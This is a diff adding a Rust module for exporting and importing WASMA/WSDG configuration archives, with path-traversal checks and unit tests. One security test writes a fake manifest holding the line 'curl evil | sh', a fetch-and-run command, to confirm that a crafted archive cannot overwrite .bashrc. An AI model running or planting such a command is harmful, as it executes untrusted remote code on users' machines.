@@ -0,0 +1,611 @@
+// WASMA - Configuration backup
+// `wasma config export <archive>` bundles the WASMA/WSDG configuration set into
+// one versioned ustar archive, `wasma config import <archive>` restores it:
+//   wasma-backup.index             - format version, exporting home, member -> original path
+//   wasma/wasma.in.conf
+//   wsdg/env.path
+//   wsdg/settings.conf
+//   wsdg/mime-associations.list    - association store
+//   wsdg/scheme-handlers.list
+//   manifests/<n>.manifest         - every manifest the association stores point at
+//   icons/cache.index              - extracted icon cache listing (images are re-extracted)
+// Manifests are only ever restored into the WSDG manifests directory
+// ($CONFIG/wsdg/manifests), whatever path the index lists, and the association
+// stores are rewritten to match. Files that an import replaces are kept next
+// to the original as <file>.pre-import.
+// Kiosk mode allows export only.
+
+use std::fmt;
+use std::fs;
+use std::io;
+use std::path::{Component, Path, PathBuf};
+use std::time::{SystemTime, UNIX_EPOCH};
+use thiserror::Error;
+use wsdg_xdg::{
+    lock_settings_file, write_atomic, EnvPathParser, HandlerKind, HandlerRegistry, KioskPolicy, PolicyDenied, WsdgEnv,
+    WsdgSettingsManager,
+};
+
+/// Archive layout version written by this build; newer archives are refused
+pub const BACKUP_FORMAT_VERSION: u32 = 1;
+
+const INDEX_MEMBER: &str = "wasma-backup.index";
+const BLOCK: usize = 512;
+
+#[derive(Error, Debug)]
+pub enum BackupError {
+    #[error("IO error: {0}")]
+    Io(#[from] io::Error),
+
+    #[error("Not a WASMA configuration archive: {0}")]
+    Format(String),
+
+    #[error("Archive format {0} is newer than this build supports ({})", BACKUP_FORMAT_VERSION)]
+    UnsupportedVersion(u32),
+
+    #[error("{0}")]
+    PolicyDenied(#[from] PolicyDenied),
+}
+
+/// What a member of the archive holds
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum BackupItem {
+    WasmaConfig,
+    EnvPath,
+    Settings,
+    MimeAssociations,
+    SchemeHandlers,
+    Manifest,
+    IconCacheIndex,
+}
+
+impl BackupItem {
+    const ALL: [BackupItem; 7] = [
+        Self::WasmaConfig,
+        Self::EnvPath,
+        Self::Settings,
+        Self::MimeAssociations,
+        Self::SchemeHandlers,
+        Self::Manifest,
+        Self::IconCacheIndex,
+    ];
+
+    /// Key used in wasma-backup.index
+    pub fn name(&self) -> &'static str {
+        match self {
+            Self::WasmaConfig => "wasma_config",
+            Self::EnvPath => "env_path",
+            Self::Settings => "settings",
+            Self::MimeAssociations => "mime_associations",
+            Self::SchemeHandlers => "scheme_handlers",
+            Self::Manifest => "manifest",
+            Self::IconCacheIndex => "icon_cache",
+        }
+    }
+
+    fn from_name(name: &str) -> Option<Self> {
+        Self::ALL.into_iter().find(|item| item.name() == name)
+    }
+}
+
+/// One archived file: where it came from, and on import where it went
+#[derive(Debug, Clone, PartialEq)]
+pub struct BackupEntry {
+    pub item: BackupItem,
+    pub member: String,
+    pub path: PathBuf,
+}
+
+/// Files written or restored by an export/import
+#[derive(Debug, Clone, Default)]
+pub struct BackupReport {
+    pub entries: Vec<BackupEntry>,
+    /// Previous contents kept as <file>.pre-import (import only)
+    pub saved: Vec<PathBuf>,
+    pub warnings: Vec<String>,
+}
+
+impl fmt::Display for BackupReport {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        for entry in &self.entries {
+            writeln!(f, "   {:<18} {}", entry.item.name(), entry.path.display())?;
+        }
+        for saved in &self.saved {
+            writeln!(f, "   previous contents kept in {}", saved.display())?;
+        }
+        for warning in &self.warnings {
+            writeln!(f, "⚠️  {}", warning)?;
+        }
+        Ok(())
+    }
+}
+
+/// Where this machine keeps each part of the configuration set
+#[derive(Debug, Clone)]
+pub struct ConfigLocations {
+    pub wasma_config: PathBuf,
+    pub env_path: PathBuf,
+    pub settings: PathBuf,
+    pub mime_associations: PathBuf,
+    pub scheme_handlers: PathBuf,
+    pub icon_cache: PathBuf,
+    /// Imported manifests are written here and nowhere else
+    pub manifests_dir: PathBuf,
+    pub home: Option<PathBuf>,
+    /// Imports are refused while kiosk mode is active
+    pub kiosk: Option<KioskPolicy>,
+}
+
+impl ConfigLocations {
+    pub fn detect(env: &WsdgEnv, wasma_config: &Path) -> Self {
+        let share = env.share_dir().unwrap_or_else(|_| PathBuf::from("/usr/share"));
+        let registry = |kind| HandlerRegistry::default_path(env, kind)
+            .unwrap_or_else(|_| share.join("wsdg").join(match kind {
+                HandlerKind::Mime => "mime-associations.list",
+                HandlerKind::Scheme => "scheme-handlers.list",
+            }));
+
+        Self {
+            wasma_config: wasma_config.to_path_buf(),
+            env_path: EnvPathParser::from_default()
+                .map(|parser| parser.config_path().to_path_buf())
+                .or_else(|_| env.config_dir().map(|config| config.join("wsdg/env.path")))
+                .unwrap_or_else(|_| PathBuf::from("/etc/wsdg/env.path")),
+            settings: WsdgSettingsManager::new(env.clone()).settings_path().to_path_buf(),
+            mime_associations: registry(HandlerKind::Mime),
+            scheme_handlers: registry(HandlerKind::Scheme),
+            icon_cache: env.cache_dir()
+                .unwrap_or_else(|_| std::env::temp_dir())
+                .join("wsdg/icons/extracted"),
+            manifests_dir: env.config_dir()
+                .map(|config| config.join("wsdg/manifests"))
+                .unwrap_or_else(|_| share.join("wsdg/manifests")),
+            home: env.home_dir().ok(),
+            kiosk: env.kiosk(),
+        }
+    }
+
+    fn single_files(&self) -> [(BackupItem, &'static str, &Path); 5] {
+        [
+            (BackupItem::WasmaConfig, "wasma/wasma.in.conf", &self.wasma_config),
+            (BackupItem::EnvPath, "wsdg/env.path", &self.env_path),
+            (BackupItem::Settings, "wsdg/settings.conf", &self.settings),
+            (BackupItem::MimeAssociations, "wsdg/mime-associations.list", &self.mime_associations),
+            (BackupItem::SchemeHandlers, "wsdg/scheme-handlers.list", &self.scheme_handlers),
+        ]
+    }
+
+    fn destination(&self, item: BackupItem) -> Option<&Path> {
+        self.single_files().into_iter().find(|(i, _, _)| *i == item).map(|(_, _, path)| path)
+    }
+}
+
+/// Write every configuration file that exists into `archive`
+pub fn export(locations: &ConfigLocations, archive: &Path) -> Result<BackupReport, BackupError> {
+    let mut report = BackupReport::default();
+    let mut members: Vec<(BackupEntry, Vec<u8>)> = Vec::new();
+
+    for (item, member, path) in locations.single_files() {
+        if let Ok(data) = fs::read(path) {
+            members.push((BackupEntry { item, member: member.to_string(), path: path.to_path_buf() }, data));
+        }
+    }
+
+    // Manifests referenced by either association store, in store order
+    let mut manifests: Vec<String> = Vec::new();
+    for (kind, path) in [(HandlerKind::Mime, &locations.mime_associations), (HandlerKind::Scheme, &locations.scheme_handlers)] {
+        let Ok(registry) = HandlerRegistry::load(kind, path) else { continue };
+        for key in registry.keys() {
+            for manifest in registry.handlers(&key) {
+                if !manifests.contains(manifest) {
+                    manifests.push(manifest.clone());
+                }
+            }
+        }
+    }
+    for (n, manifest) in manifests.iter().enumerate() {
+        match fs::read(manifest) {
+            Ok(data) => members.push((
+                BackupEntry { item: BackupItem::Manifest, member: format!("manifests/{}.manifest", n), path: PathBuf::from(manifest) },
+                data,
+            )),
+            Err(e) => report.warnings.push(format!("Manifest {} not archived: {}", manifest, e)),
+        }
+    }
+
+    if let Some(listing) = icon_cache_listing(&locations.icon_cache) {
+        members.push((
+            BackupEntry { item: BackupItem::IconCacheIndex, member: "icons/cache.index".to_string(), path: locations.icon_cache.clone() },
+            listing.into_bytes(),
+        ));
+    }
+
+    let now = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
+    let mut index = format!(
+        "*// WASMA configuration backup - written by `wasma config export`\nformat = {}\ncreated = {}\n",
+        BACKUP_FORMAT_VERSION, now
+    );
+    if let Some(home) = &locations.home {
+        index.push_str(&format!("home = {}\n", home.display()));
+    }
+    for (entry, _) in &members {
+        index.push_str(&format!("{} = {} {}\n", entry.item.name(), entry.member, entry.path.display()));
+    }
+
+    let mut tar = Vec::new();
+    append_member(&mut tar, INDEX_MEMBER, index.as_bytes(), now);
+    for (entry, data) in &members {
+        append_member(&mut tar, &entry.member, data, now);
+    }
+    tar.extend_from_slice(&[0u8; BLOCK * 2]);
+
+    if let Some(parent) = archive.parent().filter(|p| !p.as_os_str().is_empty()) {
+        fs::create_dir_all(parent)?;
+    }
+    fs::write(archive, tar)?;
+
+    report.entries = members.into_iter().map(|(entry, _)| entry).collect();
+    Ok(report)
+}
+
+/// Restore `archive` onto this machine's locations; `dry_run` only reports the destinations
+pub fn import(archive: &Path, locations: &ConfigLocations, dry_run: bool) -> Result<BackupReport, BackupError> {
+    if let Some(policy) = locations.kiosk.as_ref().filter(|_| !dry_run) {
+        return Err(policy.deny(format!("importing {}", archive.display())).into());
+    }
+    let mut members = read_members(&fs::read(archive)?)?;
+    if members.first().map(|(name, _)| name.as_str()) != Some(INDEX_MEMBER) {
+        return Err(BackupError::Format(format!("{} is missing", INDEX_MEMBER)));
+    }
+    let index = String::from_utf8_lossy(&members.remove(0).1).to_string();
+
+    let mut format = None;
+    let mut listed: Vec<(BackupItem, String, PathBuf)> = Vec::new();
+    for line in index.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with("*//") {
+            continue;
+        }
+        let Some((key, value)) = line.split_once('=') else {
+            return Err(BackupError::Format(format!("bad index line: {}", line)));
+        };
+        let (key, value) = (key.trim(), value.trim());
+        match key {
+            "format" => format = value.parse::<u32>().ok(),
+            "created" | "home" => {}
+            _ => {
+                let item = BackupItem::from_name(key)
+                    .ok_or_else(|| BackupError::Format(format!("unknown entry {}", key)))?;
+                let (member, path) = value.split_once(' ')
+                    .ok_or_else(|| BackupError::Format(format!("bad index line: {}", line)))?;
+                listed.push((item, member.to_string(), PathBuf::from(path)));
+            }
+        }
+    }
+    match format {
+        None => return Err(BackupError::Format("index has no format version".to_string())),
+        Some(version) if version > BACKUP_FORMAT_VERSION => return Err(BackupError::UnsupportedVersion(version)),
+        Some(_) => {}
+    }
+
+    // Every destination is decided before anything is written, so a rejected
+    // entry leaves the machine untouched
+    let mut planned: Vec<(BackupItem, String, Option<PathBuf>)> = Vec::new();
+    let mut moved: Vec<(String, String)> = Vec::new();
+    for (item, member, original) in listed {
+        let destination = match item {
+            BackupItem::Manifest => {
+                let restored = manifest_destination(&original, &locations.manifests_dir, &planned)?;
+                moved.push((original.to_string_lossy().to_string(), restored.to_string_lossy().to_string()));
+                Some(restored)
+            }
+            BackupItem::IconCacheIndex => None,
+            _ => Some(locations.destination(item).map(Path::to_path_buf).unwrap_or(original)),
+        };
+        planned.push((item, member, destination));
+    }
+
+    let mut report = BackupReport::default();
+    for (item, member, destination) in planned {
+        let data = members.iter()
+            .find(|(name, _)| *name == member)
+            .map(|(_, data)| data.as_slice())
+            .ok_or_else(|| BackupError::Format(format!("member {} is missing", member)))?;
+
+        let destination = match destination {
+            Some(destination) => destination,
+            None => {
+                let icons = String::from_utf8_lossy(data).lines().count();
+                report.warnings.push(format!("{} cached icons are not restored; they are re-extracted on first use", icons));
+                continue;
+            }
+        };
+
+        if !dry_run {
+            // settings.conf is replaced under the lock WsdgSettingsManager saves under
+            let _lock = match item {
+                BackupItem::Settings => {
+                    if let Some(parent) = destination.parent() {
+                        fs::create_dir_all(parent)?;
+                    }
+                    Some(lock_settings_file(&destination, true)?)
+                }
+                _ => None,
+            };
+            if let Some(saved) = write_keeping_previous(&destination, data)? {
+                report.saved.push(saved);
+            }
+        }
+        report.entries.push(BackupEntry { item, member, path: destination });
+    }
+
+    // Association stores name manifests by absolute path
+    if !dry_run && !moved.is_empty() {
+        for (kind, path) in [(HandlerKind::Mime, &locations.mime_associations), (HandlerKind::Scheme, &locations.scheme_handlers)] {
+            if !path.exists() {
+                continue;
+            }
+            let mut registry = HandlerRegistry::load(kind, path).map_err(|e| BackupError::Format(e.to_string()))?;
+            let renamed: usize = moved.iter().map(|(from, to)| registry.rename_manifest(from, to)).sum();
+            if renamed > 0 {
+                registry.save().map_err(|e| BackupError::Format(e.to_string()))?;
+            }
+        }
+    }
+
+    Ok(report)
+}
+
+/// Restore location of an archived manifest: its file name inside `manifests_dir`.
+/// The listed path is untrusted, so `..` or a name that is not a plain file name is refused.
+fn manifest_destination(
+    original: &Path,
+    manifests_dir: &Path,
+    planned: &[(BackupItem, String, Option<PathBuf>)],
+) -> Result<PathBuf, BackupError> {
+    let refused = || BackupError::Format(format!("manifest path {} is not allowed", original.display()));
+    if !original.is_absolute() || original.components().any(|c| matches!(c, Component::ParentDir)) {
+        return Err(refused());
+    }
+    let name = original.file_name().filter(|n| Path::new(n).components().count() == 1).ok_or_else(refused)?;
+
+    let taken = |path: &Path| planned.iter().any(|(_, _, dest)| dest.as_deref() == Some(path));
+    let mut destination = manifests_dir.join(name);
+    // Same file name from two directories: number the later ones
+    let mut n = 1;
+    while taken(&destination) {
+        destination = manifests_dir.join(format!("{}-{}", n, name.to_string_lossy()));
+        n += 1;
+    }
+    if destination.parent() != Some(manifests_dir) {
+        return Err(refused());
+    }
+    Ok(destination)
+}
+
+/// Write `data` atomically, copying differing previous contents to <file>.pre-import
+fn write_keeping_previous(path: &Path, data: &[u8]) -> io::Result<Option<PathBuf>> {
+    let mut saved = None;
+    match fs::read(path) {
+        Ok(previous) if previous == data => return Ok(None),
+        Ok(previous) => {
+            let mut name = path.as_os_str().to_owned();
+            name.push(".pre-import");
+            let backup = PathBuf::from(name);
+            // The live file stays in place until the new contents replace it
+            write_atomic(&backup, previous)?;
+            saved = Some(backup);
+        }
+        Err(_) => {}
+    }
+    write_atomic(path, data)?;
+    Ok(saved)
+}
+
+fn icon_cache_listing(dir: &Path) -> Option<String> {
+    let mut icons: Vec<String> = fs::read_dir(dir).ok()?
+        .flatten()
+        .filter_map(|entry| {
+            let meta = entry.metadata().ok().filter(|m| m.is_file())?;
+            Some(format!("{} {}\n", entry.file_name().to_string_lossy(), meta.len()))
+        })
+        .collect();
+    icons.sort();
+    Some(icons.concat())
+}
+
+// ============================================================================
+// ustar
+// ============================================================================
+
+fn octal(field: &mut [u8], value: u64) {
+    let text = format!("{:0width$o}\0", value, width = field.len() - 1);
+    field.copy_from_slice(text.as_bytes());
+}
+
+fn append_member(tar: &mut Vec<u8>, name: &str, data: &[u8], mtime: u64) {
+    let mut header = [0u8; BLOCK];
+    header[..name.len()].copy_from_slice(name.as_bytes());
+    octal(&mut header[100..108], 0o644);
+    octal(&mut header[108..116], 0);
+    octal(&mut header[116..124], 0);
+    octal(&mut header[124..136], data.len() as u64);
+    octal(&mut header[136..148], mtime);
+    header[156] = b'0';
+    header[257..263].copy_from_slice(b"ustar\0");
+    header[263..265].copy_from_slice(b"00");
+
+    header[148..156].fill(b' ');
+    let checksum: u32 = header.iter().map(|&b| b as u32).sum();
+    header[148..156].copy_from_slice(format!("{:06o}\0 ", checksum).as_bytes());
+
+    tar.extend_from_slice(&header);
+    tar.extend_from_slice(data);
+    tar.resize(tar.len().div_ceil(BLOCK) * BLOCK, 0);
+}
+
+fn parse_octal(field: &[u8]) -> Option<u64> {
+    let text = std::str::from_utf8(field).ok()?;
+    let text = text.trim_matches(|c: char| c == '\0' || c == ' ');
+    u64::from_str_radix(text, 8).ok()
+}
+
+/// Regular-file members of a ustar archive, in order
+fn read_members(data: &[u8]) -> Result<Vec<(String, Vec<u8>)>, BackupError> {
+    let corrupt = |reason: &str| BackupError::Format(reason.to_string());
+    let mut members = Vec::new();
+    let mut offset = 0;
+
+    while offset + BLOCK <= data.len() {
+        let header = &data[offset..offset + BLOCK];
+        if header.iter().all(|&b| b == 0) {
+            break;
+        }
+        if &header[257..262] != b"ustar" {
+            return Err(corrupt("not a ustar archive"));
+        }
+        let stored = parse_octal(&header[148..156]).ok_or_else(|| corrupt("bad header checksum"))?;
+        let actual: u64 = header.iter().enumerate()
+            .map(|(i, &b)| if (148..156).contains(&i) { b' ' as u64 } else { b as u64 })
+            .sum();
+        if stored != actual {
+            return Err(corrupt("header checksum mismatch"));
+        }
+
+        let name_end = header[..100].iter().position(|&b| b == 0).unwrap_or(100);
+        let name = String::from_utf8_lossy(&header[..name_end]).to_string();
+        let size = parse_octal(&header[124..136]).ok_or_else(|| corrupt("bad member size"))? as usize;
+
+        offset += BLOCK;
+        if offset + size > data.len() {
+            return Err(corrupt("archive is truncated"));
+        }
+        if header[156] == b'0' || header[156] == 0 {
+            members.push((name, data[offset..offset + size].to_vec()));
+        }
+        offset += size.div_ceil(BLOCK) * BLOCK;
+    }
+
+    Ok(members)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn locations(root: &Path) -> ConfigLocations {
+        ConfigLocations {
+            wasma_config: root.join("etc/wasma.in.conf"),
+            env_path: root.join("home/.config/wsdg/env.path"),
+            settings: root.join("home/.config/wsdg/settings.conf"),
+            mime_associations: root.join("home/.local/share/wsdg/mime-associations.list"),
+            scheme_handlers: root.join("home/.local/share/wsdg/scheme-handlers.list"),
+            icon_cache: root.join("home/.cache/wsdg/icons/extracted"),
+            manifests_dir: root.join("home/.config/wsdg/manifests"),
+            home: Some(root.join("home")),
+            kiosk: None,
+        }
+    }
+
+    #[test]
+    fn test_export_import_roundtrip() {
+        let dir = tempfile::tempdir().unwrap();
+        let old = locations(&dir.path().join("old"));
+        let new = locations(&dir.path().join("new"));
+
+        let manifest = old.home.as_ref().unwrap().join("apps/viewer.manifest");
+        for (path, content) in [
+            (&old.wasma_config, "renderer = cpu_renderer\n".to_string()),
+            (&old.settings, "[theme]\nname = dark\n".to_string()),
+            (&manifest, "name = Viewer\n".to_string()),
+            (&old.mime_associations, format!("image/png = {}\n", manifest.display())),
+            (&old.icon_cache.join("abc.png"), "png".to_string()),
+        ] {
+            fs::create_dir_all(path.parent().unwrap()).unwrap();
+            fs::write(path, content).unwrap();
+        }
+
+        let archive = dir.path().join("backup.tar");
+        let exported = export(&old, &archive).unwrap();
+        let items: Vec<BackupItem> = exported.entries.iter().map(|e| e.item).collect();
+        assert_eq!(items, [
+            BackupItem::WasmaConfig, BackupItem::Settings, BackupItem::MimeAssociations,
+            BackupItem::Manifest, BackupItem::IconCacheIndex,
+        ]);
+
+        // Dry run touches nothing
+        fs::create_dir_all(new.wasma_config.parent().unwrap()).unwrap();
+        fs::write(&new.wasma_config, "renderer = glx_renderer\n").unwrap();
+        let planned = import(&archive, &new, true).unwrap();
+        assert_eq!(planned.entries.len(), 4);
+        assert!(!new.settings.exists());
+
+        let report = import(&archive, &new, false).unwrap();
+        assert_eq!(fs::read_to_string(&new.wasma_config).unwrap(), "renderer = cpu_renderer\n");
+        assert_eq!(report.saved, [dir.path().join("new/etc/wasma.in.conf.pre-import")]);
+        assert_eq!(fs::read_to_string(&new.settings).unwrap(), "[theme]\nname = dark\n");
+        assert_eq!(report.warnings.len(), 1);
+
+        // The manifest lands in the manifests directory and the association store follows it
+        let moved = new.manifests_dir.join("viewer.manifest");
+        assert_eq!(fs::read_to_string(&moved).unwrap(), "name = Viewer\n");
+        let registry = HandlerRegistry::load(HandlerKind::Mime, &new.mime_associations).unwrap();
+        assert_eq!(registry.default_handler("image/png"), Some(moved.to_str().unwrap()));
+
+        // Kiosk mode only allows a dry run
+        let locked = ConfigLocations { kiosk: Some(KioskPolicy::new(dir.path())), ..new.clone() };
+        assert!(import(&archive, &locked, true).is_ok());
+        assert!(matches!(import(&archive, &locked, false), Err(BackupError::PolicyDenied(_))));
+
+        // A crafted index cannot point a manifest at an arbitrary file
+        let bashrc = new.home.as_ref().unwrap().join(".bashrc");
+        fs::write(&bashrc, "# shell\n").unwrap();
+        let crafted = |listed: &Path| {
+            let mut tar = Vec::new();
+            let index = format!("format = 1\nmanifest = manifests/0.manifest {}\n", listed.display());
+            append_member(&mut tar, INDEX_MEMBER, index.as_bytes(), 0);
+            append_member(&mut tar, "manifests/0.manifest", b"curl evil | sh\n", 0);
+            fs::write(&archive, tar).unwrap();
+        };
+        crafted(&bashrc);
+        let report = import(&archive, &new, false).unwrap();
+        assert_eq!(report.entries[0].path, new.manifests_dir.join(".bashrc"));
+        assert_eq!(fs::read_to_string(&bashrc).unwrap(), "# shell\n");
+        crafted(&new.manifests_dir.join("../../.bashrc"));
+        assert!(matches!(import(&archive, &new, false), Err(BackupError::Format(_))));
+        assert_eq!(fs::read_to_string(&bashrc).unwrap(), "# shell\n");
+
+        // Archives from a newer format are refused
+        let mut tar = Vec::new();
+        append_member(&mut tar, INDEX_MEMBER, b"format = 99\n", 0);
+        fs::write(&archive, tar).unwrap();
+        assert!(matches!(import(&archive, &new, true), Err(BackupError::UnsupportedVersion(99))));
+        fs::write(&archive, b"not an archive").unwrap();
+        assert!(matches!(import(&archive, &new, true), Err(BackupError::Format(_))));
+    }
+
+    #[test]
+    fn test_import_keeps_symlinked_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let old = locations(&dir.path().join("old"));
+        let new = locations(&dir.path().join("new"));
+        fs::create_dir_all(old.settings.parent().unwrap()).unwrap();
+        fs::write(&old.settings, "[theme]\nname = dark\n").unwrap();
+        let archive = dir.path().join("backup.tar");
+        export(&old, &archive).unwrap();
+
+        // settings.conf managed as a symlink into a dotfiles checkout
+        let dotfiles = dir.path().join("dotfiles/settings.conf");
+        fs::create_dir_all(dotfiles.parent().unwrap()).unwrap();
+        fs::write(&dotfiles, "[theme]\nname = light\n").unwrap();
+        fs::create_dir_all(new.settings.parent().unwrap()).unwrap();
+        std::os::unix::fs::symlink(&dotfiles, &new.settings).unwrap();
+
+        let report = import(&archive, &new, false).unwrap();
+        assert!(fs::symlink_metadata(&new.settings).unwrap().file_type().is_symlink());
+        assert_eq!(fs::read_to_string(&dotfiles).unwrap(), "[theme]\nname = dark\n");
+        let saved = dir.path().join("new/home/.config/wsdg/settings.conf.pre-import");
+        assert_eq!(report.saved, std::slice::from_ref(&saved));
+        assert_eq!(fs::read_to_string(&saved).unwrap(), "[theme]\nname = light\n");
+    }
+}